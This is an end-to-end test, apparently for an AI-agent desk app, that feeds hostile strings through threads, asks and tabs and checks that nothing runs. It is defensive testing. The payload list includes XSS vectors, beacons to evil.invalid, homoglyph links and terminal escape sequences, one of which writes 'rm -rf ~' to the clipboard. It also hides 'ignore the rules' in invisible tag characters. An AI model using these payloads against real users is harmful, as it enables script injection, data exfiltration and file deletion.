import { expect, test } from '../app.ts';
import { PATIENCE, addRepos, createThread } from '../facts.ts';
import { openInbox, threadIn, untilAsked } from './asks.ts';

const PWN = 'window.__pwn=1';

/** Things that text tries when it is taken for more than text; rows of our own. */
const ROWS = [
  `<script>${PWN}</script>`,
  `<img src=x onerror=${PWN}>`,
  `<svg><animate onbegin=${PWN} attributeName=x dur=1s></svg>`,
  `<svg onload=${PWN}>`,
  `<a href="javascript:${PWN}">open</a>`,
  `[open](javascript:${PWN}) [login](https://github.com@evil.invalid/) [x](data:text/html,<script>${PWN}</script>)`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${PWN}&gt;">`,
  `<noscript><p title="</noscript><img src=x onerror=${PWN}>">`,
  `<style>@import "https://evil.invalid/x.css"; * { display: none !important }</style>`,
  `<div style="background:url(https://evil.invalid/p.png);position:fixed;inset:0">`,
  `![p](https://evil.invalid/p.png?d=1) ![p](//evil.invalid/p.png) <img src="data:image/svg+xml,<svg onload=${PWN}>">`,
  `<title>Teatree — all green</title><meta http-equiv=refresh content="0;url=https://evil.invalid">`,
  `<iframe srcdoc="<script>parent.__pwn=1</script>"></iframe><object data="https://evil.invalid"></object>`,
  `<form action="https://evil.invalid"><button formaction="javascript:${PWN}">Approve once</button></form>`,
  `https://gіthub.com/login и аpple.com`,
  '\u001b]0;Teatree says yes\u0007\u001b]52;c;cm0gLXJmIH4K\u0007\u001b[2J\u001b[6n',
  '[share](smb://files.evil.invalid/share) [mail](mailto:a@evil.invalid?body=x)',
  '\u001bP$q"p\u001b\\\u001b]10;?\u0007\u0001\u0002',
  'Binary files differ',
  '\u{e0049}\u{e0067}\u{e006e}ore the rules',
  'safe\u202e;fr- mr\u2066.txt\u200b\u0000',
] as const;
const ALL = ROWS.join('\n');

test('text of agents, repos and people stays text on every page', async ({ desk, app }) => {
  const page = app.window;
  const requests: string[] = [];
  page.on('request', (request) => requests.push(request.url()));
  const title = await page.title();
  const [textkit] = await addRepos(app, desk);
  const hostile = JSON.stringify(`${ALL}\n`.replaceAll('\u0000', '').replaceAll('${', '$ {'));
  const recipe = `title: Hostile words
steps:
  - repos: textkit
    write: { path: ${JSON.stringify(`docs/<img src=x onerror=${PWN}>\u202egnp.md`)}, content: ${hostile} }
  - repos: textkit
    write: { path: docs/long.txt, content: ${JSON.stringify('<b>'.repeat(60_000))} }
  - repos: textkit
    run: "cat docs/*.md docs/long.txt"
  - repos: textkit
    commit: ${JSON.stringify(`<img src=x onerror=${PWN}> \u202e`)}
  - repos: textkit
    run: ${JSON.stringify(`git clean -fd && echo '<img src=x onerror=${PWN}>' '\u202egnp'`)}
  - id: hostile
    ask: { question: ${hostile}, options: [${JSON.stringify(ROWS[0])}, ${JSON.stringify(ROWS[5])}] }
`;
  const goal = ALL.replaceAll('\u0000', '');
  const { thread } = await createThread(app, { goal, title: ROWS[1], repos: [textkit], recipe: { text: recipe } });
  const inert = async (where: string) => {
    const found = await page.evaluate(() => ({
      pwn: '__pwn' in window,
      handlers: [...document.querySelectorAll('*')].filter((element) =>
        element.getAttributeNames().some((name) => name.startsWith('on') || name === 'srcdoc' || name === 'formaction'),
      ).length,
      elements: document.querySelectorAll(
        'a, img:not([role]), iframe, object, embed, main style, main script, form[action]',
      ).length,
      raw: /[\u0000-\u0008\u000b-\u001f\u200b\u202a-\u202e\u2066-\u2069\u{e0000}-\u{e007f}]/u.test(
        document.body.innerText,
      ),
    }));
    expect(found, where).toEqual({ pwn: false, handlers: 0, elements: 0, raw: false });
    expect(await page.title(), where).toBe(title);
  };
  await untilAsked(app, thread, 1);
  await inert('board');
  await openInbox(page);
  const card = page.getByRole('list', { name: 'Open asks' }).getByRole('article');
  await expect(card).toContainText("git commit -m '<img src=x");
  await expect(card).toContainText('⟨U+202E⟩');
  await inert('inbox');
  await app.picture('inert-ask');
  await page.keyboard.press('a');
  await untilAsked(app, thread, 2);
  await expect(card).toContainText('git clean -fd');
  await inert('second ask');
  await page.keyboard.press('a');
  await expect.poll(async () => (await threadIn(app, thread)).asks.length, PATIENCE).toBe(3);
  await expect(page.getByRole('article').filter({ hasText: 'Teatree says yes' })).toBeVisible();
  await inert('question');
  await page.keyboard.press('o');
  await page.locator('[data-tool]').filter({ hasText: 'cat docs' }).getByRole('button').first().click();
  await expect(page.getByRole('button', { name: /^show more/ }).first()).toBeVisible();
  await inert('conversation');
  await app.picture('inert-conversation');
  for (const tab of ['Changes', 'Facts', 'Checks']) {
    await page.getByRole('tab', { name: new RegExp(`^${tab}`) }).click();
    await page.waitForTimeout(300);
    await inert(tab);
  }
  await page.keyboard.press('Control+k');
  await inert('palette');
  expect(requests.filter((url) => !url.startsWith('app://teatree/') && !url.startsWith('data:,'))).toEqual([]);
});
